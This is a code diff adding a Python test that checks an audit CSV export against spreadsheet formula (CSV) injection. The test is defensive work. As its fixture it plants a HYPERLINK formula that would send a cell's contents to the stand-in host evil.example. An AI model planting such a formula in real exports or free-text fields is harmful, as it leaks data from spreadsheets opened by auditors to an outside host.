@@ -12,6 +12,7 @@ Unit tier: in-process TestClient on a temporary SQLite runtime, Temporal unreach
 
 from __future__ import annotations
 
+import io
 import re
 from collections.abc import Iterator
 from pathlib import Path
@@ -342,3 +343,26 @@ def test_every_answer_of_the_api_is_json_or_a_file_never_html(world) -> None:
             assert path.endswith("/certificate"), (method, path)
             assert got.headers["content-disposition"].startswith("attachment")
             assert got.headers["content-security-policy"].startswith("default-src 'none'")
+
+
+def test_the_audit_csv_starts_no_cell_with_a_formula(world) -> None:
+    """CSV injection: an insider's free text (a reason typed into a decision or a reveal) lands
+    in the audit export an auditor opens in a spreadsheet; a cell starting with = + - @ would
+    run as a formula. The entry is written as a use case writes one (``AuditTrail.record``)."""
+    import csv
+
+    from dsrflow.service.audit import AuditTrail
+    from dsrflow.service.categories import Category
+    from dsrflow.service.principal import Principal
+
+    rt = world["rt"]
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    analyst = Principal.of("staff:mallory", ["analyst"])
+    AuditTrail(rt.ledger).record(analyst, "reveal", Category.DECODE, RID, reason=formula)
+    got = web(world, headers=auth(world["tokens"]["auditor"])).get(
+        f"{PREFIX}/audit/export?format=csv"
+    )
+    assert got.status_code == 200 and "HYPERLINK" in got.text
+    for row in csv.reader(io.StringIO(got.text)):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
